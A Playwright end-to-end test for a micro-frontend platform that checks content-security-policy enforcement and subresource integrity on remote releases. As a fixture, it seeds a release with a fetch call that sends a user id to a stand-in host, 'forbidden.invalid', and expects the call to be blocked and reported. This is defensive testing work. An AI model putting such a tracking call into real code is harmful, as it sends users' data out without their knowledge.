import { randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { PlatformHealth } from '@market-pulse/contract';
import { DerivedRelease } from '../../site/DerivedRelease';
import { FolderServer } from '../../site/FolderServer';
import { operate, platform, servedRemote } from '../../site/platform';
import { expectRelease, releasesThatRan } from '../../site/shownRelease';
import { expect, ownSiteTest as test, type Page } from '../../site/test';

/** Nobody is there; the security policy stops the request before it is made. */
const FORBIDDEN = 'https://forbidden.invalid';

/** Goes away from the page, upon which the browser sends what it has to report. */
const leave = (page: Page) => page.goto('about:blank');

test('a release on another origin is loaded from there; with one byte changed the release before it serves in the same page', async ({
  page,
  browser,
  site,
}) => {
  const before = (await servedRemote(site, 'markets')).version;
  const release = await DerivedRelease.of('mf-markets', {
    hash: randomBytes(4).toString('hex'),
    code: `fetch("${FORBIDDEN}/track?user=7").catch(() => undefined);`,
  });
  const network = await FolderServer.start(release.folder, '127.0.0.1');
  const chunk = release.document.exposes['./StocksPage']?.find((path) => path.endsWith('.js')) ?? '';
  const ofRelease = async () => {
    const health = await operate<PlatformHealth>(site, 'GET', '/health/');
    return {
      failures: health.remotes
        .flatMap(({ name, releases }) => (name === 'markets' ? releases : []))
        .flatMap(({ version, failures }) => (version === release.version ? failures : [])),
      violations: health.violations.filter(({ version }) => version === release.version),
    };
  };
  try {
    await platform(site, ['register', network.url, '--to', 'production']);
    const registered = network.requests.length;
    const response = await page.goto('/markets/stocks');
    await expectRelease(page, 'markets', release.version);
    await expect(page.getByRole('table').first()).toBeVisible();
    expect(await releasesThatRan(page)).toContain(`markets ${release.version}`);
    expect(network.requests.slice(registered)).toEqual(expect.arrayContaining(['remoteEntry.js', chunk]));
    const policy = (await response?.headerValue('content-security-policy')) ?? '';
    for (const directive of ['script-src', 'connect-src']) {
      expect(policy).toMatch(new RegExp(`${directive} [^;]*${network.url}[ ;]`));
    }

    // What the policy refused is told of the remote whose code asked for it, without what the address held.
    await leave(page);
    await expect
      .poll(async () => (await ofRelease()).violations)
      .toEqual([expect.objectContaining({ remote: 'markets', directive: 'connect-src', blocked: FORBIDDEN })]);
    expect((await ofRelease()).failures).toEqual([]);

    const content = await readFile(join(release.folder, chunk), 'utf8');
    await writeFile(join(release.folder, chunk), content.replace('releasesThatRan', 'releasesThatran'));
    const other = await (await browser.newContext({ baseURL: site.url })).newPage();
    const documents: string[] = [];
    other.on('request', (request) => {
      if (request.isNavigationRequest()) documents.push(new URL(request.url()).pathname);
    });
    await other.goto('/markets/stocks');
    await expectRelease(other, 'markets', before);
    await expect(other.getByRole('table').first()).toBeVisible();
    expect(await other.evaluate(() => 'releasesThatran' in globalThis), 'the changed code ran').toBe(false);
    expect(documents).toEqual(['/markets/stocks']);

    await leave(other);
    await expect
      .poll(async () => (await ofRelease()).failures)
      .toContainEqual(expect.objectContaining({ phase: 'expose', code: 'integrity', page: '/markets/stocks' }));
    await other.context().close();
  } finally {
    await operate(site, 'POST', '/environments/production/remotes/markets/rollback/', { reason: 'end of the test' });
    await network.stop();
    await release.remove();
  }
});
